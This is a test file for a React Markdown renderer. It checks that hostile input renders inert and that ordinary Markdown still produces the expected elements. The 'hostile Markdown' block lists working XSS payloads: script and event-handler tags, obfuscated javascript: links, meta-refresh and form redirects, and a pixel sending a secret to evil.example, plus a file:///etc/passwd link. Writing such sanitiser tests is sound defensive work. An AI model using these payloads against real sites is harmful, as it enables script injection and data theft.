import { MantineProvider } from '@mantine/core'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { MarkdownBlock } from './markdown-block'

const drawn = (source: string, tableHead: string | null = null) =>
  renderToStaticMarkup(
    createElement(
      MantineProvider,
      { env: 'test' } as object,
      createElement(MarkdownBlock, { source, tableHead, isLive: false }),
    ),
  ).replace(/<style[\s\S]*?<\/style>/g, '')

/** Names of elements and attributes in what was drawn; text is left out. */
const elementsOf = (html: string) => new Set([...html.matchAll(/<([a-z][\w-]*)/g)].map((match) => match[1]))
const attributesOf = (html: string) => [...html.matchAll(/<[a-z][^>]*>/g)].map((match) => match[0]).join('\n')

describe('hostile Markdown', () => {
  test.each([
    '<script>alert(1)</script>',
    'text <script src="https://evil.example/x.js"></script> text',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name=a><button>go</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<math><mtext></p><img src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '![x](https://evil.example/pixel.png?secret=1)',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '[![x](https://evil.example/pixel.png)](https://evil.example)',
    '![x][1]\n\n[1]: https://evil.example/pixel.png',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&#58;alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#x6A;avascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](file:///etc/passwd)',
    '[x](app://corral/index.html)',
    '[x](//evil.example)',
    '[x](#/settings)',
    '<javascript:alert(1)>',
    '<https://evil.example/>',
    'www.evil.example and https://evil.example and a@evil.example',
    '[x]: javascript:alert(1)\n\n[x]',
    'note[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '```html\n<script>alert(1)</script>\n```',
    '`<img src=x onerror=alert(1)>`',
    '```js" onmouseover="alert(1)\nx\n```',
  ])('%j loads nothing, runs nothing and leads nowhere by itself', (source) => {
    const html = drawn(source)
    for (const name of ['script', 'img', 'iframe', 'svg', 'form', 'style', 'base', 'meta', 'link', 'a', 'object']) {
      if (name === 'svg' || name === 'style') continue
      expect(elementsOf(html)).not.toContain(name)
    }
    expect(attributesOf(html)).not.toMatch(
      /\son\w+=|\s(src|href|srcset|action|xlink:href|style)="(?!--)[^"]*(script|evil|data:)/i,
    )
  })

  test('raw HTML is shown as the text it is', () => {
    expect(drawn('a <b onclick="x()">bold</b> word')).toContain(
      'a &lt;b onclick=&quot;x()&quot;&gt;bold&lt;/b&gt; word',
    )
  })

  test('a picture is named, not loaded', () => {
    expect(drawn('![a cat](https://evil.example/cat.png)')).toContain('a cat')
  })

  test('a link to anything but the web or an address is plain text', () => {
    expect(elementsOf(drawn('[x](javascript:alert(1))'))).not.toContain('button')
    expect(elementsOf(drawn('[x](https://ollama.com)'))).toContain('button')
    expect(elementsOf(drawn('[x](mailto:a@b.example)'))).toContain('button')
  })

  test('a language that is not a name stays out of the page', () => {
    expect(drawn('- a\n\n  ```js"onload="x\n  y\n  ```')).not.toMatch(/<[^>]*onload/)
  })
})

describe('Markdown', () => {
  test.each([
    ['**b** *i* ~~s~~ `c`', ['strong', 'em', 'del', 'code']],
    ['# One\n\n#### Four', ['h2']],
    ['- a\n- b', ['ul', 'li']],
    ['3. a\n4. b', ['ol', 'li']],
    ['- [x] done', ['input']],
    ['> q', ['blockquote']],
    ['|a|b|\n|-|-:|\n|1|2|', ['table', 'th', 'td']],
    ['---', ['hr']],
  ])('%j is drawn as %j', (source, elements) => {
    for (const element of elements) expect(elementsOf(drawn(source))).toContain(element)
  })

  test('a later piece of a table has its head, hidden', () => {
    const html = drawn('|3|4|\n', '|a|b|\n|-|-|\n')
    expect(html).toContain('data-later')
    expect(html).toContain('<td>4</td>')
  })
})
